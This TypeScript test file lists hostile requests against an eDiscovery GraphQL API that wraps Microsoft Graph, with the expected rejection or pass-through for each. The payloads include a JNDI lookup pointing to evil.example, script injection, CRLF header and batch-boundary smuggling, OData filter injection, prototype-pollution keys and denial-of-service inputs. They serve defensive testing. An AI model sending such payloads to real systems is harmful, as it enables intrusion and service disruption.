import { caseId, id } from '../../testkit/documents.js';
import { type Expectation, type HttpAttack, nested, operationPath, post, times } from './hostile-request.js';

const mutation = `mutation($i: UpdateCaseOperationInput!) {
  updateCaseOperation(input: $i) {clientMutationId caseOperation {id} userErrors {code field}}
}`;
const big = (bytes: number) => 'x'.repeat(bytes);

const invalid: Omit<Expectation, 'end'> = { upstream: 'nothing' };

/** A patch that must not be sent. */
const rejectedPatch = (name: string, patch: () => unknown): HttpAttack => ({
  name: `a patch with ${name}`,
  send: () => post(mutation, { i: { caseId, id, patch: patch() } }),
  expect: { end: 'rejected', ...invalid },
});

/** The patch as Microsoft Graph receives it: only `identityId` has another name there. */
const toWire = (patch: object) =>
  JSON.parse(JSON.stringify(patch).replaceAll('"identityId":', '"id":')) as object;

/** A patch that may be sent, but only unchanged. */
const sentAsIs = (name: string, patch: () => object): HttpAttack => ({
  name: `a patch with ${name}`,
  send: () => post(mutation, { i: { caseId, id, patch: patch() } }),
  expect: {
    end: 'either',
    get upstream() {
      return { paths: [operationPath], body: toWire(patch()) };
    },
  },
});

const message = (text: string) => () => ({ resultInfo: { code: 1, subcode: 2, message: text } });

const patches: readonly HttpAttack[] = [
  rejectedPatch('nothing', () => ({})),
  rejectedPatch('null for it all', () => null),
  rejectedPatch('a list', () => []),
  rejectedPatch('a string', () => '{"percentProgress":1}'),
  rejectedPatch('-1 percent', () => ({ percentProgress: -1 })),
  rejectedPatch('101 percent', () => ({ percentProgress: 101 })),
  rejectedPatch('half a percent', () => ({ percentProgress: 0.5 })),
  rejectedPatch('2 to the power of 31 percent', () => ({ percentProgress: 2_147_483_648 })),
  rejectedPatch('1e308 percent', () => ({ percentProgress: 1e308 })),
  rejectedPatch('a string for percent', () => ({ percentProgress: '50' })),
  rejectedPatch('true for percent', () => ({ percentProgress: true })),
  rejectedPatch('a list for percent', () => ({ percentProgress: [50] })),
  rejectedPatch('an object for percent', () => ({ percentProgress: { $gt: 0 } })),
  rejectedPatch('a number for a status', () => ({ status: 3 })),
  rejectedPatch('a status of Graph instead of ours', () => ({ status: 'succeeded' })),
  rejectedPatch('an unknown status', () => ({ status: 'UNKNOWN_FUTURE_VALUE' })),
  rejectedPatch('a status that is a list', () => ({ status: ['SUCCEEDED'] })),
  rejectedPatch('the status __proto__', () => ({ status: '__proto__' })),
  rejectedPatch('the action constructor', () => ({ action: 'constructor' })),
  rejectedPatch('an unknown action', () => ({ action: 'UNKNOWN_FUTURE_VALUE' })),
  rejectedPatch('an empty date', () => ({ createdDateTime: '' })),
  rejectedPatch('a number for a date', () => ({ createdDateTime: 0 })),
  rejectedPatch('a date that is none', () => ({ completedDateTime: '2026-02-30T00:00:00Z' })),
  rejectedPatch('a date without an offset', () => ({ completedDateTime: '2026-02-01T00:00:00' })),
  rejectedPatch('a date in the year 10000', () => ({ completedDateTime: '+010000-01-01T00:00:00Z' })),
  rejectedPatch('a date with a line break', () => ({ completedDateTime: '2026-02-01T00:00:00Z\r\nX: y' })),
  rejectedPatch('a date with eight digits of a second', () => ({
    completedDateTime: '2026-02-01T00:00:00.12345678Z',
  })),
  rejectedPatch('a date of 900 kB', () => ({
    completedDateTime: `2026-02-01T00:00:00.${'1'.repeat(900_000)}Z`,
  })),
  rejectedPatch('a date of digits from elsewhere', () => ({
    completedDateTime: '\u0662\u0660\u0662\u0666-02-01T00:00:00Z',
  })),
  rejectedPatch('a leap second', () => ({ completedDateTime: '2026-06-30T23:59:60Z' })),
  rejectedPatch('a result without a code', () => ({ resultInfo: { message: 'x' } })),
  rejectedPatch('a result of nulls', () => ({ resultInfo: { code: null, subcode: null, message: null } })),
  rejectedPatch('a result code that is a string', () => ({ resultInfo: { code: '1', subcode: 1 } })),
  rejectedPatch('a result code over 32 bits', () => ({ resultInfo: { code: 2 ** 31, subcode: 1 } })),
  rejectedPatch('an empty createdBy', () => ({ createdBy: {} })),
  rejectedPatch('a creator with nothing in it', () => ({ createdBy: { user: {} } })),
  rejectedPatch('a creator who is a string', () => ({ createdBy: 'admin' })),
  rejectedPatch('a creator in a creator', () => ({ createdBy: { user: { user: { identityId: 'x' } } } })),
  rejectedPatch('a creator 1,000 deep', () => ({
    createdBy: JSON.parse(nested(1_000, '{"user":', '1', '}')) as object,
  })),
  rejectedPatch('a creator of an unknown kind', () => ({ createdBy: { group: { identityId: 'x' } } })),
  rejectedPatch('a property of Graph that is not ours', () => ({
    percentProgress: 1,
    '@odata.type': '#microsoft.graph.user',
  })),
  rejectedPatch('an id', () => ({ percentProgress: 1, id: 'x' })),
  rejectedPatch('a property called toString', () => ({ percentProgress: 1, toString: 'x' })),
  sentAsIs('null everywhere', () => ({
    createdDateTime: null,
    completedDateTime: null,
    action: null,
    createdBy: null,
    percentProgress: null,
    status: null,
    resultInfo: null,
  })),
  sentAsIs('minus zero percent', () => ({ percentProgress: 0 })),
  sentAsIs('null within a creator', () => ({
    createdBy: {
      user: { identityId: null, displayName: null, userPrincipalName: null },
      device: null,
      application: null,
    },
  })),
  sentAsIs('control characters in a message', message('a\u0000\u0001\b\f\u001b[2J\u007f')),
  sentAsIs('line breaks in a message', message('a\r\nX-Injected: b\r\n\r\n{"percentProgress":100}')),
  sentAsIs('an end of JSON in a message', message('"}},"status":"failed","x":{"y":{"z":"')),
  sentAsIs('half a surrogate pair in a message', message('a\ud83d b \ude00')),
  sentAsIs('a message with marks that reverse its direction', message('\u202e\u2066evil\u2069')),
  sentAsIs('line separators in a message', message('a\u2028b\u2029c')),
  sentAsIs('a template in a message', message('${jndi:ldap://evil.example/x} {{7*7}} <%= 1 %>')),
  sentAsIs('a script in a message', message('</script><script>alert(1)</script>')),
  sentAsIs('the longest message', () => message(big(4_000))()),
  sentAsIs('2,000 emojis in a message', () => message('💣'.repeat(2_000))()),
  sentAsIs('the longest names', () => ({
    createdBy: { user: { identityId: big(256), displayName: big(256), userPrincipalName: big(256) } },
  })),
  rejectedPatch('900 kB in a message', () => message(big(900_000))()),
  rejectedPatch('a message one character too long', () => message(big(4_001))()),
  rejectedPatch('100,000 emojis in a message', () => message('💣'.repeat(100_000))()),
  rejectedPatch('a name of 900 kB', () => ({ createdBy: { device: { displayName: big(900_000) } } })),
  rejectedPatch('an identity id of 900 kB', () => ({ createdBy: { user: { identityId: big(900_000) } } })),
  rejectedPatch('a sign-in name of 257 characters', () => ({
    createdBy: { application: { userPrincipalName: big(257) } },
  })),
  rejectedPatch('a status of 900 kB that suggests another', () => ({
    status: 'Did you mean '.repeat(69_000),
  })),
  rejectedPatch('60,000 unknown properties', () =>
    Object.fromEntries(Array.from({ length: 60_000 }, (_, n) => [`k${n}`, n])),
  ),
  sentAsIs(
    'a batch boundary in a message',
    message('--batch\r\nContent-Type: application/http\r\n\r\nDELETE /'),
  ),
  sentAsIs('an OData name in a creator', () => ({
    createdBy: { user: { identityId: '@odata.bind', displayName: '@odata.type', userPrincipalName: '$ref' } },
  })),
  sentAsIs('__proto__ as a name', () => ({
    createdBy: { user: { identityId: '__proto__', displayName: 'constructor' } },
  })),
  sentAsIs('the largest result codes', () => ({
    resultInfo: { code: 2_147_483_647, subcode: -2_147_483_648 },
  })),
];

const input = (
  name: string,
  i: () => unknown,
  expect: Expectation = { end: 'rejected', upstream: 'nothing' },
): HttpAttack => ({
  name: `an input with ${name}`,
  send: () => post(mutation, { i: i() }),
  expect,
});
const planned: Expectation = { end: 'executed', upstream: 'nothing' };
const patch = { percentProgress: 5 };
const dry = { caseId, id, patch, dryRun: true };

const inputs: readonly HttpAttack[] = [
  input('a clientMutationId of 900 kB', () => ({ ...dry, clientMutationId: big(900_000) })),
  input('a clientMutationId of 129 characters', () => ({ ...dry, clientMutationId: big(129) })),
  input('a clientMutationId of 128 characters', () => ({ ...dry, clientMutationId: big(128) }), planned),
  input(
    'a clientMutationId of control characters',
    () => ({ ...dry, clientMutationId: '\u0000\r\n\u001b' }),
    planned,
  ),
  input('a clientMutationId of half a pair', () => ({ ...dry, clientMutationId: '\ud800' }), planned),
  input('a clientMutationId that is an object', () => ({ ...dry, clientMutationId: {} })),
  input('dryRun as a string', () => ({ ...dry, dryRun: 'false' })),
  input('dryRun as a number', () => ({ ...dry, dryRun: 0 })),
  input('ids that are lists', () => ({ ...dry, caseId: [caseId] })),
  input('ids that are objects', () => ({ ...dry, id: { id } })),
  input('ids that are null', () => ({ ...dry, id: null })),
  input('ids that are true', () => ({ ...dry, id: true })),
  input('ids that are fractions', () => ({ ...dry, id: 1.5 })),
  input('an id that is a number over 53 bits', () => ({ ...dry, id: 2 ** 60 }), {
    ...planned,
    end: 'either',
  }),
  input('an empty expectation', () => ({ caseId, id, patch, expect: {} })),
  input('an expectation of wrong dates', () => ({ caseId, id, patch, expect: { createdDateTime: 'x' } })),
  input('an expectation that is a list of two', () => ({ caseId, id, patch, expect: [patch, patch] })),
  input(
    'an expectation that is not met',
    () => ({ caseId, id, patch, expect: { percentProgress: -2_000_000 } }),
    { end: 'rejected', codes: ['CONFLICT'], upstream: { paths: [operationPath] } },
  ),
  input(
    'an expectation of 900 kB',
    () => ({ caseId, id, patch, expect: { resultInfo: { message: big(900_000) } } }),
    { end: 'rejected', upstream: 'nothing' },
  ),
  input('unknown fields', () => ({ ...dry, caseID: caseId, force: true })),
];

const cases = (
  name: string,
  variables: () => object,
  expect: Expectation = { end: 'rejected', upstream: 'nothing' },
): HttpAttack => ({
  name: `a list of cases with ${name}`,
  send: () =>
    post(
      'query($n: Int, $a: String, $f: EdiscoveryCaseFilter) {ediscoveryCases(first: $n, after: $a, filter: $f) {nodes {id}}}',
      variables(),
    ),
  expect,
});
const listed: Expectation = { end: 'executed' };
const cursor = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

const caseLists: readonly HttpAttack[] = [
  cases('a negative number', () => ({ n: -1 })),
  cases('the lowest number', () => ({ n: -2_147_483_648 })),
  cases('501', () => ({ n: 501 })),
  cases('the highest number', () => ({ n: 2_147_483_647 })),
  cases('a number over 32 bits', () => ({ n: 2 ** 40 })),
  cases('a number as a string', () => ({ n: '5' })),
  cases('a part of a number', () => ({ n: 1.5 })),
  cases('a cursor that is none', () => ({ a: 'x' }), { end: 'rejected' }),
  cases('an empty cursor', () => ({ a: '' }), { end: 'either' }),
  cases('a cursor that is a number', () => ({ a: 7 })),
  cases('a cursor of 900 kB', () => ({ a: big(900_000) }), { end: 'rejected' }),
  cases('a cursor of an object', () => ({ a: cursor({ __proto__: null, length: 1 }) }), { end: 'rejected' }),
  cases('a cursor of numbers', () => ({ a: cursor([1, 2]) }), { end: 'rejected' }),
  cases('a cursor of lists', () => ({ a: cursor([[['x']]]) }), { end: 'rejected' }),
  cases('a cursor of 50,000 parts', () => ({ a: cursor(Array.from({ length: 50_000 }, () => 'x')) }), {
    end: 'rejected',
  }),
  cases(
    'a cursor 100,000 deep',
    () => ({ a: Buffer.from(nested(100_000, '[', '', ']')).toString('base64url') }),
    { end: 'rejected' },
  ),
  cases('a cursor with a URL', () => ({ a: cursor(['https://evil.example/']) }), { end: 'rejected' }),
  cases('a cursor with a skiptoken', () => ({ a: cursor(['x&$expand=settings']) }), { end: 'rejected' }),
  cases('a name of 900 kB', () => ({ f: { displayNameContains: big(900_000) } })),
  cases('a name of 256 characters', () => ({ f: { displayNameContains: big(256) } }), listed),
  cases('an external id of 900 kB', () => ({ f: { externalId: big(900_000) } })),
  cases('a date of 900 kB', () => ({
    f: { createdDateTime: { from: `2026-02-01T00:00:00.${'1'.repeat(900_000)}Z` } },
  })),
  cases('a name that looks like a pattern', () => ({ f: { displayNameContains: '(a+)+$' } }), listed),
  cases('a name of half a pair', () => ({ f: { displayNameContains: '\ud800' } }), listed),
  cases(
    'a name that is OData',
    () => ({ f: { displayNameContains: "' or 1 eq 1 or '", externalId: "')$top=1" } }),
    listed,
  ),
  cases('a filter that is a list of two', () => ({ f: [{}, {}] })),
  cases('a status that is a number', () => ({ f: { status: [1] } })),
  cases('100 statuses that are none', () => ({ f: { status: times(100, 'OPEN').split(' ') } })),
  cases('a status that is null', () => ({ f: { status: [null] } })),
  cases('20,000 of one status', () => ({ f: { status: Array.from({ length: 20_000 }, () => 'ACTIVE') } }), {
    end: 'either',
  }),
  cases('dates that are none', () => ({ f: { createdDateTime: { from: 'yesterday' } } })),
  cases('dates the wrong way round', () => ({
    f: { createdDateTime: { from: '2026-01-02T00:00:00Z', to: '2026-01-01T00:00:00Z' } },
  })),
  cases(
    'dates at the ends of time',
    () => ({ f: { createdDateTime: { from: '0001-01-01T00:00:00Z', to: '9999-12-31T23:59:59.9999999Z' } } }),
    { end: 'either' },
  ),
  cases('dates with impossible offsets', () => ({
    f: { createdDateTime: { from: '2026-01-01T00:00:00+99:99' } },
  })),
  cases(
    'a filter of nulls',
    () => ({
      n: null,
      a: null,
      f: { createdDateTime: null, displayNameContains: null, externalId: null, status: null },
    }),
    listed,
  ),
];

const operations = (name: string, args: string, expect: Expectation = { end: 'rejected' }): HttpAttack => ({
  name: `a list of operations with ${name}`,
  send: () => post(`{ediscoveryCase(id: "${caseId}") {operations(${args}) {nodes {id}}}}`),
  expect,
});

const operationLists: readonly HttpAttack[] = [
  operations('a negative number', 'first: -1'),
  operations('a number as a string', 'first: "1"'),
  operations('a cursor of the cases', `after: "${cursor([caseId])}"`),
  operations('a cursor of nulls', `after: "${cursor([null, null])}"`),
  operations('an order that is a string', 'orderBy: "id desc; drop"'),
  operations('an order by __proto__', 'orderBy: {field: __proto__, direction: ASC}'),
  operations('an order without a field', 'orderBy: {direction: ASC}'),
  operations('a kind that is none', 'filter: {kind: [TOTAL]}'),
  operations('no kind at all', 'filter: {kind: [], action: [], status: []}', listed),
  operations('isTerminal as a string', 'filter: {isTerminal: "yes"}'),
];

export const values: readonly HttpAttack[] = [...patches, ...inputs, ...caseLists, ...operationLists];
